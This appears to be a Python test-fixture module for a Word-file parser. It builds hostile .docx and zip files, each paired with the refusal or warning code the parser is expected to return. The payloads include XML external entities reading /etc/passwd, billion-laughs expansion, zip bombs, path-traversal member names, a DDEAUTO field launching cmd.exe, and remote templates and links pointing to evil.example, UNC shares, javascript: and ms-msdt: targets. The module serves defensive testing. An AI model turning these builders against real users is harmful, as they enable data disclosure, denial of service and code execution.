"""Word files made to harm their reader, each built here, with what must come of it."""

import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from packetgen.ooxml.limits import MEGABYTE

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = "http://schemas.openxmlformats.org/package/2006/relationships"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
CFB = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
TYPES = (
    f'<Types xmlns="{CT}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    f'<Override PartName="/word/document.xml" ContentType="{MAIN}"/></Types>'
)


@dataclass(frozen=True)
class Member:
    """A member of a zip file, with what its headers claim where that is not the truth."""

    name: bytes
    content: bytes
    method: int = 8
    flags: int = 0x800
    claimed_size: int | None = None
    claimed_crc: int | None = None
    local_name: bytes | None = None
    starts_at: int | None = None  # where the directory says that it starts


def zipped(*members: Member, prefix: bytes = b"", suffix: bytes = b"", shift: int = 0) -> bytes:
    """A zip file as the members describe it, true or not. `shift` counts the prefix into the offsets."""
    body, directory = b"", b""
    for each in members:
        worker = zlib.compressobj(9, zlib.DEFLATED, -15)
        packed = worker.compress(each.content) + worker.flush() if each.method == 8 else each.content
        crc = zlib.crc32(each.content) if each.claimed_crc is None else each.claimed_crc
        size = len(each.content) if each.claimed_size is None else each.claimed_size
        start = len(body) + shift if each.starts_at is None else each.starts_at
        local = each.name if each.local_name is None else each.local_name
        head = (each.flags, each.method, 0, 0x21, crc, len(packed), size)
        body += struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, *head, len(local), 0) + local + packed
        directory += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, *head, len(each.name), 0, 0, 0, 0, 0, start)
        directory += each.name
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, len(members), len(members), len(directory), len(body) + shift, 0)
    return prefix + body + directory + end + suffix


def document(body: str = "<w:p><w:r><w:t>words</w:t></w:r></w:p>", head: str = "") -> str:
    return f'{head}<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}</w:body></w:document>'


def relations(*entries: tuple[str, str, bool]) -> str:
    """A relationship part of entries (kind, target, external)."""
    made = "".join(
        f'<Relationship Id="r{number}" Type="{R}/{kind}" Target="{target}"{" TargetMode=" + chr(34) + "External" + chr(34) if external else ""}/>'
        for number, (kind, target, external) in enumerate(entries)
    )
    return f'<Relationships xmlns="{REL}">{made}</Relationships>'


def package(main: str | bytes | None = None, types: str = TYPES, **others: str | bytes) -> list[Member]:
    """The members of a Word file; names of others have `__` for the slash and `_dot_` for dots."""
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": types,
        "word/document.xml": document() if main is None else main,
    }
    parts |= {name.replace("__", "/").replace("_dot_", "."): content for name, content in others.items()}
    return [
        Member(name.encode(), content if isinstance(content, bytes) else content.encode())
        for name, content in parts.items()
    ]


def docx(main: str | bytes | None = None, types: str = TYPES, rels: str = "", **others: str | bytes) -> bytes:
    extra = [Member(b"word/_rels/document.xml.rels", rels.encode())] if rels else []
    return zipped(*package(main, types, **others), *extra)


def complex_field(*codes: str, result: str = "shown") -> str:
    """A field whose code is split over runs."""
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    begin, separate, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))
    return f"{begin}{runs}{separate}<w:r><w:t>{result}</w:t></w:r>{end}"


@dataclass(frozen=True)
class Attack:
    """`code` is that of the refusal; of a warning where `refused` is false: then the file is read all the same."""

    name: str
    build: Callable[[], bytes]
    code: str
    refused: bool = True

    def __str__(self) -> str:
        return self.name


def refusals() -> Iterator[Attack]:
    yield from _xml_attacks()
    yield from _zip_attacks()
    yield from _disguises()


def _xml_attacks() -> Iterator[Attack]:
    doctype = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    entity = "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>"
    laughs = "<!DOCTYPE d [" + '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)
    ) + "]>"  # fmt: skip
    far = f"<!-- {'x' * 9000} -->"
    wide = document(entity, f'<?xml version="1.0" encoding="UTF-16"?>{doctype}').encode("utf-16")
    yield Attack("external entity", lambda: docx(document(entity, doctype)), "PG603")
    yield Attack("external entity after a long comment", lambda: docx(document(entity, far + doctype)), "PG603")
    yield Attack("external entity in UTF-16", lambda: docx(wide), "PG603")
    yield Attack("external entity in UTF-16 without a mark", lambda: docx(wide[2:]), "PG603")
    yield Attack("billion laughs", lambda: docx(document("<w:p/>", laughs)), "PG603")
    yield Attack("declaration in a part nobody reads", lambda: docx(customXml__item1_dot_xml=f"{doctype}<a/>"), "PG603")
    yield Attack("entity that is not declared", lambda: docx(document(entity)), "PG604")
    yield Attack("deep nesting", lambda: docx(document("<w:ins>" * 20000 + "</w:ins>" * 20000)), "PG604")
    yield Attack("12 MB of text in one node", lambda: _stored(document(f"<w:p>{'x' * 12_000_000}</w:p>")), "PG604")
    yield Attack("UTF-7", lambda: docx('<?xml version="1.0" encoding="UTF-7"?>' + document()), "PG650")
    yield Attack("GBK", lambda: docx('<?xml version="1.0" encoding="GBK"?>' + document()), "PG650")
    yield Attack("UTF-32", lambda: docx(document().encode("utf-32")), "PG650")
    yield Attack("not well-formed", lambda: docx(document("<w:p><w:r></w:p>")), "PG604")
    yield Attack("millions of paragraphs", lambda: docx(document("<w:p/>" * 3_100_000)), "PG629")
    yield Attack("millions of stored paragraphs", lambda: _stored(document("<w:p/>" * 3_100_000)), "PG649")


def _stored(main: str) -> bytes:
    """A file whose document is not compressed, so that no ratio betrays it."""
    listing, body = package(main)
    return zipped(listing, Member(body.name, body.content, method=0))


def _zip_attacks() -> Iterator[Attack]:
    good = package()
    name = b"word/media/a.png"
    claims = [Member(b"m%d" % number, b"x", claimed_size=200 * MEGABYTE) for number in range(20)]
    for title, made, code in (
        ("members that claim 4 GB", claims, "PG619"),
        ("a picture of 1 GB", [Member(name, b"", claimed_size=1 << 30)], "PG619"),
        ("a picture of 100 MB", [Member(name, b"", claimed_size=100 * MEGABYTE)], "PG623"),
        ("3 MB of zeros", [Member(name, bytes(3 * MEGABYTE))], "PG629"),
        ("more inside than claimed", [Member(name, b"x" * 900, claimed_size=10)], "PG626"),
        ("less inside than claimed", [Member(name, b"x" * 9, claimed_size=10)], "PG626"),
        ("another checksum", [Member(name, b"x", claimed_crc=7)], "PG626"),
        ("a password", [Member(name, b"x", flags=0x801)], "PG622"),
        ("an unknown compression", [Member(name, b"x", method=12)], "PG628"),
        ("the same names twice", good, "PG620"),
        ("names that differ in case", [Member(b"WORD/Document.xml", b"<a/>")], "PG620"),
        ("another name in its own header", [Member(b"a.xml", b"x", local_name=b"b.xml")], "PG611"),
        ("a member that starts nowhere", [Member(b"a.xml", b"x", starts_at=1 << 31)], "PG611"),
        *((f"a member named {unsafe!r}", [Member(unsafe, b"x")], "PG620") for unsafe in UNSAFE_NAMES),
    ):
        yield Attack(title, lambda made=made: zipped(*good, *made), code)  # type: ignore[misc]
    yield Attack("two entries for the same bytes", lambda: zipped(*good, Member(b"a", b"x"), _again(good)), "PG621")
    yield Attack("a member inside another", lambda: _quoted(good), "PG621")
    yield Attack("100,000 members", lambda: _filled(100_000), "PG618")
    yield Attack("a directory that lies about its count", lambda: _lying(3000), "PG611")
    yield Attack("bytes before", lambda: zipped(*good, prefix=b"MZ junk"), "PG627")
    yield Attack("bytes before, counted in", lambda: zipped(*good, prefix=b"PK\3\4junk", shift=8), "PG627")
    yield Attack("bytes after", lambda: zipped(*good, suffix=b"junk"), "PG627")
    yield Attack("one file after another", lambda: zipped(*good) + zipped(*package(document("<w:p/>"))), "PG627")
    yield Attack("cut short", lambda: zipped(*good)[:-30], "PG611")
    yield Attack("cut in half", lambda: zipped(*good)[:300], "PG611")
    yield Attack("only the end", lambda: b"PK\5\6" + bytes(18), "PG624")


UNSAFE_NAMES = (
    b"../evil", b"/abs", b"C:\\evil", b"C:/evil", b"word\\..\\evil", b"word/../evil", b"a\0b", b"\x1b]0;x\x07", b"a//b",
    "a\x9b31m".encode(), "a\u202egpj.exe".encode(),
)  # fmt: skip


def _again(members: list[Member]) -> Member:
    """One more entry for the bytes of the first member."""
    return Member(members[0].name, members[0].content, starts_at=0)


def _quoted(members: list[Member]) -> bytes:
    """A member whose content holds the header and the bytes of another (CVE-2024-0450)."""
    inner = Member(b"word/inner.xml", b"<a/>", method=0)
    outer = Member(b"word/outer.bin", zipped(inner)[: 30 + len(inner.name) + len(inner.content)], method=0)
    once = zipped(*members, outer)
    at = once.index(b"PK\3\4", once.index(outer.name))
    return zipped(*members, outer, Member(inner.name, inner.content, method=0, starts_at=at))


def _filled(count: int) -> bytes:
    """A zip file of empty members, more than the old fields can count."""
    bodies, heads, at = [], [], 0
    for number in range(count):
        name = b"%x" % number
        bodies.append(struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0) + name)
        entry = (b"PK\1\2", 20, 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0, 0, 0, 0, 0, at)
        heads.append(struct.pack("<4sHHHHHHIIIHHHHHII", *entry) + name)
        at += len(bodies[-1])
    listing = b"".join(heads)
    record = struct.pack("<4sQHHIIQQQQ", b"PK\6\6", 44, 45, 45, 0, 0, count, count, len(listing), at)
    locator = struct.pack("<4sIQI", b"PK\6\7", 0, at + len(listing), 1)
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return b"".join(bodies) + listing + record + locator + end


def _lying(count: int) -> bytes:
    data = bytearray(_filled(count))
    at = data.rfind(b"PK\6\6")
    data[at + 24 : at + 40] = struct.pack("<QQ", 5, 5)
    return bytes(data)


def _disguises() -> Iterator[Attack]:
    spreadsheet = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    macros = TYPES.replace(MAIN, "application/vnd.ms-word.document.macroEnabled.main+xml")
    project = TYPES.replace(
        "</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    )
    wide = "EncryptedPackage".encode("utf-16-le")
    yield Attack("nothing", lambda: b"", "PG613")
    yield Attack(
        "an old .doc, or .wps", lambda: CFB + bytes(600) + "WordDocument".encode("utf-16-le") + bytes(90), "PG614"
    )
    yield Attack("a password-protected file", lambda: CFB + bytes(600) + wide + bytes(90), "PG622")
    yield Attack("an old spreadsheet", lambda: CFB + bytes(600) + "Workbook".encode("utf-16-le") + bytes(90), "PG647")
    yield Attack("a web page", lambda: b"\xef\xbb\xbf \n<!DOCTYPE html><html>x</html>", "PG615")
    yield Attack("a web page without a head", lambda: b"<div><p>x</p></div>", "PG615")
    yield Attack("a web archive", lambda: b"MIME-Version: 1.0\r\nContent-Type: multipart/related", "PG615")
    yield Attack("rich text", lambda: rb"{\rtf1\ansi hello}", "PG641")
    yield Attack("plain text", "乙方应于收到发票后付款。\n".encode, "PG642")
    yield Attack("plain text in GBK", lambda: "乙方应于收到发票后付款。\n".encode("gbk"), "PG642")
    yield Attack(
        "Word 2003 XML",
        lambda: b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument/>',
        "PG643",
    )
    yield Attack("a PDF", lambda: b"%PDF-1.7\n", "PG616")
    yield Attack("a picture", lambda: b"\x89PNG\r\n\x1a\n" + bytes(300), "PG617")
    yield Attack("an .odt", lambda: zipped(Member(b"mimetype", b"application/vnd.oasis.opendocument.text", 0)), "PG644")
    yield Attack(
        "an .ofd", lambda: zipped(Member(b"OFD.xml", b"<a/>"), Member(b"Doc_0/Document.xml", b"<a/>")), "PG645"
    )
    yield Attack(
        "a .pages",
        lambda: zipped(Member(b"Index/Document.iwa", b"x"), Member(b"Metadata/Properties.plist", b"x")),
        "PG646",
    )
    yield Attack("an .xlsx", lambda: docx(types=TYPES.replace(MAIN, spreadsheet)), "PG647")
    yield Attack("a header for a document", lambda: docx(f'<w:hdr xmlns:w="{W}"/>'), "PG624")
    yield Attack("any other zip", lambda: zipped(Member(b"a.txt", b"x")), "PG624")
    yield Attack("macros, whatever the name", lambda: docx(types=macros), "PG625")
    yield Attack("a macro project in a .docx", lambda: docx(types=project, word__vbaProject_dot_bin=b"x"), "PG625")


def reports() -> Iterator[Attack]:
    """Files that are read, with what they would do told."""
    yield from _outside()
    yield from _fields()
    image = relations(("image", "media/a.png", False))
    for name, picture, code in PICTURES:
        made = docx(inline(), rels=image, word__media__a_dot_png=picture)
        yield Attack(f"a picture {name}", lambda made=made: made, code, refused=False)  # type: ignore[misc]
    many = relations(*(("image", f"http://evil.example/{n}.png", True) for n in range(3000)))
    chunk = docx(
        document('<w:altChunk r:id="r0"/><w:p/>'), rels=relations(("aFChunk", "a.html", False)), word__a_dot_html="x"
    )
    for name, made, code in (
        ("content in HTML", chunk, "PG654"),
        ("a header that is missing", docx(rels=relations(("header", "header1.xml", False))), "PG655"),
        ("a target that climbs out", docx(inline(), rels=relations(("image", "../../../etc/passwd", False))), "PG655"),
        ("thousands of things outside", docx(rels=many), "PG660"),
        ("relationships that cannot be read", docx(rels="<Relationships>"), "PG604"),
    ):
        yield Attack(name, lambda made=made: made, code, refused=False)  # type: ignore[misc]


def inline() -> str:
    """A document of one inline picture, relationship r0."""
    names = (
        'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
    )
    blip = '<a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:embed="r0"/></pic:blipFill></pic:pic></a:graphicData></a:graphic>'
    return document(
        f'<w:p><w:r><w:t>words</w:t></w:r><w:r><w:drawing><wp:inline {names}><wp:extent cx="900000" cy="900000"/>'
        f'<wp:docPr id="1" name="a" descr="a picture"/>{blip}</wp:inline></w:drawing></w:r></w:p>'
    )


def _outside() -> Iterator[Attack]:
    for kind in ("attachedTemplate", "image", "oleObject", "subDocument", "frame"):
        for target in ("http://evil.example/x", r"\\evil.example\share\x", "file:///etc/passwd"):
            rels = relations((kind, target, True))
            yield Attack(f"{kind} at {target}", lambda rels=rels: docx(rels=rels), "PG651", refused=False)  # type: ignore[misc]
    for target in (
        "javascript:alert(1)",
        "file:///etc/passwd",
        r"\\evil.example\share",
        "JAVASCRIPT:x",
        "ms-msdt:/id",
        "vbscript:x",
    ):
        rels = relations(("hyperlink", target, True))
        yield Attack(f"link to {target}", lambda rels=rels: docx(rels=rels), "PG652", refused=False)  # type: ignore[misc]


def _fields() -> Iterator[Attack]:
    begin, end = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    quote = f"{begin}<w:r><w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText></w:r>{end}"
    for name, inner in (
        *((code, complex_field(code)) for code in ACTIVE_CODES),
        ("split over runs", complex_field("D", "DE", "AU", "TO x")),
        ("in one element", '<w:fldSimple w:instr="DDEAUTO x"><w:r><w:t>shown</w:t></w:r></w:fldSimple>'),
        ("of character codes", f"{begin}{quote}<w:r><w:instrText> x</w:instrText></w:r>{end}"),
        ("whose name another field gives", f"{begin}{complex_field('REF a', result='DDEAUTO')}{end}"),
        ("that never ends", f"{begin}<w:r><w:instrText>DDE x</w:instrText></w:r>"),
    ):
        made = docx(document(f"<w:p>{inner}</w:p>"))
        yield Attack(f"a field {name}", lambda made=made: made, "PG653", refused=False)  # type: ignore[misc]


ACTIVE_CODES = (
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', "DDE excel", 'INCLUDETEXT "http://evil.example/x"',
    'INCLUDEPICTURE "http://evil.example/x" \\d', "IMPORT x", "dde excel", "  DDEAUTO x", '"DDEAUTO" x',
)  # fmt: skip


def png(width: int, height: int) -> bytes:
    """A PNG of one colour that claims a size."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes((1 + (width + 7) // 8) * min(height, 100)))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def jpeg(width: int, height: int) -> bytes:
    app = b"\xff\xe0" + struct.pack(">H", 4) + b"ab"
    return b"\xff\xd8" + app + b"\xff\xff\xc2" + struct.pack(">HBHHB", 8, 8, height, width, 0) + b"\xff\xd9"


def gif(width: int, height: int, frame: tuple[int, int]) -> bytes:
    extension = b"\x21\xf9\x04\0\0\0\0\0"
    return (
        b"GIF89a"
        + struct.pack("<HHBBB", width, height, 0x80, 0, 0)
        + bytes(6)
        + extension
        + b","
        + struct.pack("<HHHHB", 0, 0, *frame, 0)
    )


def bmp(width: int, height: int) -> bytes:
    return b"BM" + bytes(12) + struct.pack("<Iii", 40, width, height) + bytes(28)


def tiff(width: int, height: int, order: str = "<") -> bytes:
    entries = struct.pack(f"{order}HHII", 256, 4, 1, width) + struct.pack(f"{order}HHII", 257, 4, 1, height)
    return (b"II" if order == "<" else b"MM") + struct.pack(f"{order}HIH", 42, 8, 2) + entries + bytes(4)


PICTURES = (
    ("of 400 megapixels (PNG)", png(20000, 20000), "PG658"),
    ("of 4,000 megapixels (JPEG)", jpeg(65000, 65000), "PG658"),
    ("with a frame larger than itself (GIF)", gif(1, 1, (65000, 65000)), "PG658"),
    ("of 400 megapixels (BMP)", bmp(20000, -20000), "PG658"),
    ("of 400 megapixels (TIFF)", tiff(20000, 20000, ">"), "PG658"),
    ("of 21 MB", png(10, 10) + b"".join(struct.pack("<Q", n * 2654435761 % 2**64) for n in range(2_760_000)), "PG657"),
    ("that is an EMF", b"\x01\0\0\0" + bytes(90), "PG656"),
    ("that is SVG", b"<svg xmlns='http://www.w3.org/2000/svg'><use href='#a'/></svg>", "PG656"),
    ("that is nothing", b"abc", "PG656"),
    ("that is empty", b"", "PG656"),
    ("that ends in its header", b"\xff\xd8\xff\xe0\0", "PG659"),
)
